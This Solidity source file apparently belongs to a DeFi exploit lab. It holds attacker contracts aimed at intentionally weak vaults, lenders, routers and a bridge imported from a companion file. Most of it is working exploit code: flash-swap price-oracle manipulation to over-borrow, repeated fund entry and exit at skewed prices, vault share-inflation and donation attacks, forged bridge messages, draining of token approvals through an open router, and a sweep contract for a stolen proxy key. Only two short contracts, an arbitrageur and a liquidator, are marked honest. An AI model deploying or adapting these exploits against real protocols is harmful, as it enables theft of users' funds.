// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IToken} from "./Markets.sol";
import {Bridge, ISpot, NaiveVault, OpenRouter, SpotFund, SpotLender, VaultLender} from "./Drains.sol";

interface IPairOf is ISpot {
    function swap(uint256, uint256, address, bytes calldata) external;
    function sync() external;
}

/// Swaps on a pair without a router.
abstract contract Trader {
    function _swap(IPairOf pair, IToken token, uint256 amount) internal {
        (uint112 r0, uint112 r1, ) = pair.getReserves();
        bool first = pair.token0() == address(token);
        (uint256 into, uint256 from) = first ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 out = (amount * 997 * from) / (into * 1000 + amount * 997);
        token.transfer(address(pair), amount);
        pair.swap(first ? 0 : out, first ? out : 0, address(this), "");
    }

    function _home(IToken token) internal {
        uint256 all = token.balanceOf(address(this));
        if (all > 0) token.transfer(tx.origin, all);
    }
}

/// Lifts a spot price with a flash swap, in `buys` steps, borrows against it, sells back and repays.
contract SpotThief is Trader {
    struct Plan {
        IPairOf source;
        IPairOf pair;
        SpotLender lender;
        IToken dollar;
        IToken coin;
        uint256 amount;
        uint256 buys;
    }

    function own_lift(Plan calldata plan) external {
        bool first = plan.source.token0() == address(plan.dollar);
        plan.source.swap(first ? plan.amount : 0, first ? 0 : plan.amount, address(this), abi.encode(plan));
        _home(plan.dollar);
        _home(plan.coin);
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        Plan memory plan = abi.decode(data, (Plan));
        for (uint256 i = 0; i < plan.buys; i++) _swap(plan.pair, plan.dollar, plan.amount / plan.buys);
        uint256 loan = (plan.dollar.balanceOf(address(plan.lender)) * 99) / 100;
        uint256 needed = ((loan * 4 * 1e18) / 3) / plan.lender.valueOf(1e18) + 1e12;
        plan.coin.approve(address(plan.lender), needed);
        plan.lender.pledge(needed);
        plan.lender.borrow(loan);
        _swap(plan.pair, plan.coin, plan.coin.balanceOf(address(this)));
        plan.dollar.transfer(address(plan.source), plan.amount + (plan.amount * 3) / 997 + 1);
    }
}

/// Enters a fund while its coins look cheap and leaves while they look dear, again and again.
contract RoundThief is Trader {
    function own_rounds(IPairOf pair, SpotFund fund, IToken dollar, IToken coin, uint256 coins, uint256 stake, uint256 rounds)
        external
    {
        dollar.approve(address(fund), type(uint256).max);
        for (uint256 i = 0; i < rounds; i++) {
            uint256 before = dollar.balanceOf(address(this));
            _swap(pair, coin, coins);
            uint256 got = dollar.balanceOf(address(this)) - before;
            uint256 shares = fund.deposit(stake);
            uint256 had = coin.balanceOf(address(this));
            _swap(pair, dollar, (got * 1006) / 1000);
            fund.withdraw(shares);
            coins = coin.balanceOf(address(this)) - had;
        }
        _home(dollar);
        _home(coin);
    }
}

/// Makes its shares of a vault dear by a gift to the vault, and borrows more against them than the gift.
contract GiftThief is Trader {
    function own_gift(NaiveVault vault, VaultLender lender, IToken dollar, uint256 gift) external {
        vault.transfer(address(lender), vault.balanceOf(address(this)));
        lender.pledge();
        dollar.transfer(address(vault), gift);
        lender.borrow((dollar.balanceOf(address(lender)) * 99) / 100);
        _home(dollar);
    }
}

/// Takes the first share of a vault and makes it dear; later, everything.
contract FirstThief is Trader {
    function own_first(NaiveVault vault, IToken dollar, uint256 gift) external {
        dollar.approve(address(vault), 1);
        vault.deposit(1, address(this));
        if (gift > 0) dollar.transfer(address(vault), gift);
    }

    function own_give(NaiveVault vault, IToken dollar, uint256 gift) external {
        dollar.transfer(address(vault), gift);
    }

    function own_leave(NaiveVault vault, IToken dollar) external {
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
        _home(dollar);
    }
}

/// Forges a message.
contract BridgeThief is Trader {
    function own_forge(Bridge bridge, IToken token, uint256 amount) external {
        bridge.process(token, address(this), amount, bytes32(0));
        _home(token);
    }
}

/// Empties whoever approved it.
contract ApprovalThief {
    function own_pull(IToken token, address[] calldata owners, address to) external {
        for (uint256 i = 0; i < owners.length; i++) token.transferFrom(owners[i], to, token.balanceOf(owners[i]));
    }
}

/// Tells an open router whom to rob.
contract RouterThief {
    function own_tell(OpenRouter router, IToken token, address[] calldata owners) external {
        for (uint256 i = 0; i < owners.length; i++) {
            uint256 all = token.balanceOf(owners[i]);
            router.execute(address(token), abi.encodeCall(token.transferFrom, (owners[i], tx.origin, all)));
        }
    }
}

/// The code that a stolen key puts behind a proxy.
contract SweepCode {
    function own_sweep(IToken token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}

/// Honest: borrows by a flash swap, buys on one pair, sells on another, repays.
contract Arbitrageur is Trader {
    function arbitrage(IPairOf source, IPairOf cheap, IPairOf dear, IToken dollar, IToken coin, uint256 amount) external {
        bool first = source.token0() == address(dollar);
        source.swap(first ? amount : 0, first ? 0 : amount, address(this), abi.encode(cheap, dear, dollar, coin, amount));
        _home(dollar);
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        (IPairOf cheap, IPairOf dear, IToken dollar, IToken coin, uint256 amount) =
            abi.decode(data, (IPairOf, IPairOf, IToken, IToken, uint256));
        _swap(cheap, dollar, amount);
        _swap(dear, coin, coin.balanceOf(address(this)));
        dollar.transfer(msg.sender, amount + (amount * 3) / 997 + 1);
    }
}

/// Honest: borrows by a flash swap, liquidates, sells what was seized, repays.
contract Liquidator is Trader {
    function liquidate(IPairOf source, IPairOf pair, SpotLender lender, address debtor, uint256 amount) external {
        IToken dollar = lender.dollar();
        bool first = source.token0() == address(dollar);
        source.swap(first ? amount : 0, first ? 0 : amount, address(this), abi.encode(pair, lender, debtor, amount));
        _home(dollar);
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        (IPairOf pair, SpotLender lender, address debtor, uint256 amount) =
            abi.decode(data, (IPairOf, SpotLender, address, uint256));
        lender.dollar().approve(address(lender), amount);
        lender.liquidate(debtor, amount);
        _swap(pair, lender.coin(), lender.coin().balanceOf(address(this)));
        lender.dollar().transfer(msg.sender, amount + (amount * 3) / 997 + 1);
    }
}
